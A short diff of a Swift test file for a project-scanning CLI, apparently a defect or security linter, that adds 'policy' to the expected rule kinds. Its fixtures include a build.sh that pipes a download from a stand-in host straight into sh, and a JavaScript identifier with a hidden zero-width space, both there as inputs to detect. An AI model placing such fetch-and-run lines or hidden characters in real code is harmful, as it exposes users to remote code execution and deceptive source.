@@ -204,7 +204,7 @@ final class UserDefectCLITests: XCTestCase {
         }
         let json = try CLI.run(["rules", "--all", "--format", "json"], cwd: dir.url)
         let items = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]])
-        XCTAssertEqual(Set(items.compactMap { $0["kind"] as? String }), ["secret", "shell", "script", "unicode"])
+        XCTAssertEqual(Set(items.compactMap { $0["kind"] as? String }), ["secret", "shell", "policy", "script", "unicode"])
 
         try dir.write("build.sh", "#!/bin/sh\ncurl -fsSL https://get.example.invalid/i.sh | sh\n")
         try dir.write("x.js", "let a\u{200B}b = 1;\n")
